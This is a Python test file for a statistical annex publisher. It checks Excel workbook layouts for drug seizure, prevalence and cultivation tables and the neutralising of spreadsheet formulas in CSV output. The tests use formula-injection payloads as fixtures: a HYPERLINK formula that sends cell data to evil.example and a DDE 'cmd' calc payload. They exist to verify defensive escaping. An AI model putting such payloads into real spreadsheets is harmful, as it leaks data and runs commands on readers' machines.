"""Statistical annex workbooks and spreadsheet-safe CSV, as a reader opens them."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import openpyxl

from observatory.publication.kernels.annex_xlsx import (
    CULTIVATION_HEADER_ROW,
    PREVALENCE_HEADER,
    PREVALENCE_HEADER_ROW,
    SEIZURES_HEADER,
    SEIZURES_HEADER_ROW,
    AnnexRelease,
    CultivationRow,
    CultivationTable,
    PrevalenceRow,
    PrevalenceSheet,
    SeizureRow,
    cultivation_workbook,
    prevalence_workbook,
    seizures_workbook,
    sheet_title,
)
from observatory.publication.kernels.csv_safe import (
    csv_cell,
    is_formula_like,
    neutralise_text,
    write_safe_csv,
)

RELEASE = AnnexRelease(label="WDR 2025 demo", released_on=date(2025, 6, 26), source="Source: UNODC.")
MALICIOUS = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def open_workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_xml(data: bytes, sheet_number: int = 1) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(f"xl/worksheets/sheet{sheet_number}.xml").decode()


def row_values(sheet, row: int, first_column: int = 1) -> list:
    return [c.value for c in sheet[row][first_column - 1 :]]


def test_seizures_layout_title_header_rows_and_release_lines():
    rows = [
        SeizureRow("Africa", "East Africa", "Comoros", "Opioids", "Opiates", "Heroin", 2023, 0.5, "COM"),
        SeizureRow(
            "Americas", "South America", "Colombia", "Cocaine-type", "Cocaine", "Cocaine", 2023, None, "COL"
        ),
    ]
    sheet = open_workbook(seizures_workbook(rows, RELEASE, title="Drug seizures, 2019-2023"))["Seizures"]
    assert sheet["A1"].value == "Drug seizures, 2019-2023"
    assert tuple(row_values(sheet, SEIZURES_HEADER_ROW)) == SEIZURES_HEADER
    assert row_values(sheet, 3) == [
        "Africa",
        "East Africa",
        "Comoros",
        "Opioids",
        "Opiates",
        "Heroin",
        2023,
        0.5,
        "COM",
    ]
    assert row_values(sheet, 4)[7] is None  # blank stays blank, never 0
    assert sheet["A6"].value == "Release: WDR 2025 demo (published 2025-06-26)"
    assert sheet["A7"].value == "Source: UNODC."


def test_malicious_text_is_stored_as_inert_text_never_a_formula():
    rows = [
        SeizureRow(
            "Africa", "East Africa", MALICIOUS, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", 2023, 1.0, "XXX"
        )
    ]
    data = seizures_workbook(rows, RELEASE)
    sheet = open_workbook(data)["Seizures"]
    for column in "CDEF":
        cell = sheet[f"{column}3"]
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    assert sheet["C3"].value == MALICIOUS
    assert sheet["E3"].value == "-2+3"
    xml = sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml


def test_prevalence_layout_blocks_best_low_high_and_notes():
    rows = [
        PrevalenceRow(
            "Africa",
            "East Africa",
            "Kenya",
            2022,
            best=2.1,
            low=1.9,
            high=2.28,
            age_range="15-65",
            source="Government/UNODC Estimate",
            method="HHS",
            adjustment_notes="e",
        ),
        PrevalenceRow("Asia", "South-West Asia", "Afghanistan", 2015, best=5.5, source=MALICIOUS),
        PrevalenceRow("Africa", "East Africa", "Kenya", 2017, best=1.2, low=2.1, high=0.3, source="ARQ"),
        PrevalenceRow("Africa", "North Africa", "Egypt", 2016, best=2.0),
    ]
    sheets = [PrevalenceSheet("Cannabis", rows, notes=("Method: HHS=Household survey.",))]
    data = prevalence_workbook(sheets, RELEASE)
    sheet = open_workbook(data)["Cannabis"]
    assert sheet["B1"].value == "CANNABIS"
    assert sheet["B2"].value.startswith("Annual Prevalence of Use as a percentage")
    assert {str(r) for r in sheet.merged_cells.ranges} >= {"B1:O1", "B2:O2"}
    assert tuple(row_values(sheet, PREVALENCE_HEADER_ROW, 2)) == PREVALENCE_HEADER
    body = [row_values(sheet, r, 2)[:9] for r in range(4, 8)]
    assert body == [
        ["Africa", "East Africa", "Kenya", 2.1, 1.9, 2.28, None, None, 2022],
        [None, None, "Kenya", 1.2, 2.1, 0.3, None, None, 2017],
        [None, "North Africa", "Egypt", 2.0, None, None, None, None, 2016],
        ["Asia", "South-West Asia", "Afghanistan", 5.5, None, None, None, None, 2015],
    ]
    assert sheet["L4"].value == "Government/UNODC Estimate"
    assert sheet["L7"].value == MALICIOUS and sheet["L7"].data_type == "s"
    assert sheet["B9"].value == "Method: HHS=Household survey."
    assert sheet["B10"].value == "Release: WDR 2025 demo (published 2025-06-26)"
    assert sheet["B11"].value == "Source: UNODC."
    assert "<f>" not in sheet_xml(data)


def test_cultivation_layout_years_as_columns_missing_marks_and_bounds():
    years = [2021, 2022, 2023]
    table = CultivationTable(
        title="Illicit cultivation of opium poppy, 2021-2023 (hectares)",
        years=years,
        rows=[
            CultivationRow(
                "South-West Asia",
                "Afghanistan",
                {2021: 177000, 2022: 233000, 2023: 10800},
                label="Afghanistan (best estimate)",
                preliminary_years=frozenset({2023}),
            ),
            CultivationRow(
                "South-West Asia",
                "Afghanistan",
                {2021: 162000, 2022: 215000, 2023: 8600},
                label="lower bound",
            ),
            CultivationRow("South-East Asia", "Myanmar", {2021: 30200, 2022: 40100}),
        ],
        total={2021: 244360, 2022: 308460, 2023: None},
        notes=("Two dots indicate that data were unavailable.",),
    )
    sheet = open_workbook(cultivation_workbook(table, RELEASE))["Cultivation"]
    assert sheet["A1"].value == "Illicit cultivation of opium poppy, 2021-2023 (hectares)"
    assert row_values(sheet, CULTIVATION_HEADER_ROW)[:4] == ["Country", 2021, 2022, 2023]
    assert [sheet.cell(row=r, column=1).value for r in range(5, 11)] == [
        "SOUTH-WEST ASIA",
        "Afghanistan (best estimate)",
        "lower bound",
        None,
        "SOUTH-EAST ASIA",
        "Myanmar",
    ]
    assert row_values(sheet, 6)[:4] == ["Afghanistan (best estimate)", 177000, 233000, 10800]
    assert sheet["D6"].font.i is True and sheet["C6"].font.i is not True
    assert row_values(sheet, 10)[:4] == ["Myanmar", 30200, 40100, ".."]
    assert row_values(sheet, 12)[:4] == ["TOTAL", 244360, 308460, ".."]
    assert sheet["A14"].value == "Two dots indicate that data were unavailable."
    assert sheet["A15"].value.startswith("Release: WDR 2025 demo")


def test_sheet_titles_are_excel_legal():
    assert sheet_title("Sedatives / other [x]") == "Sedatives other x"
    assert len(sheet_title("x" * 40)) == 31


def test_csv_neutralises_formulas_but_not_numbers():
    assert [
        is_formula_like(t) for t in ["=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "-1.5", "+3", "1e5", "ok"]
    ] == [
        True,
        True,
        True,
        True,
        True,
        True,
        False,
        False,
        False,
        False,
    ]
    assert neutralise_text(MALICIOUS) == "'" + MALICIOUS
    assert [csv_cell(v) for v in [None, -1.5, 3, float("nan"), date(2020, 1, 2), "-x"]] == [
        "",
        "-1.5",
        "3",
        "",
        "2020-01-02",
        "'-x",
    ]
    data = write_safe_csv(["Country", "=evil"], [["Côte d'Ivoire", 1.5], [MALICIOUS, -2]])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["Country", "'=evil"], ["Côte d'Ivoire", "1.5"], ["'" + MALICIOUS, "-2"]]
